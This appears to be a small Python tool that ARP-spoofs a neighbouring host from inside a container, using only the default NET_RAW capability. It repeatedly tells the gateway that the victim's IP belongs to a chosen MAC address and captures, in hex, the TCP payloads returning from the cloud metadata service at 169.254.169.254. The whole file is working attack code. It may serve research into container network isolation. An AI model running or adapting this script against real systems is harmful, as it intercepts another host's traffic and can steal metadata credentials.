"""Claims a neighbour's address for some seconds and writes down every answer of the metadata service that comes by.

eavesdrop.py MODE VICTIM-IP VICTIM-MAC GATEWAY-IP SECONDS, with no more than Docker's default capabilities (NET_RAW).
MODE is the hardware address it claims it with: "own", an "invented" one, or the "victim"'s.
Prints the number of diverted frames and, in hex, all their data.
"""
import socket
import struct
import sys
import time

from wire import gateway_mac, sender, wire

mode, victim, victim_mac, gateway, seconds = sys.argv[1:6]
METADATA = socket.inet_aton("169.254.169.254")
source = sender(mode, victim_mac)
wire.settimeout(0.005)
door = gateway_mac(gateway)
claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + source + socket.inet_aton(victim) + door + socket.inet_aton(gateway)
frames, heard, end = 0, b"", time.time() + float(seconds)
while time.time() < end:
    wire.send(door + source + b"\x08\x06" + claim)
    try:
        frame = wire.recv(65535)
    except TimeoutError:
        continue
    if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != METADATA:
        continue
    frames += 1
    start = 14 + (frame[14] & 15) * 4
    heard += frame[start + (frame[start + 12] >> 4) * 4:14 + struct.unpack("!H", frame[16:18])[0]]
print(frames, heard.hex())
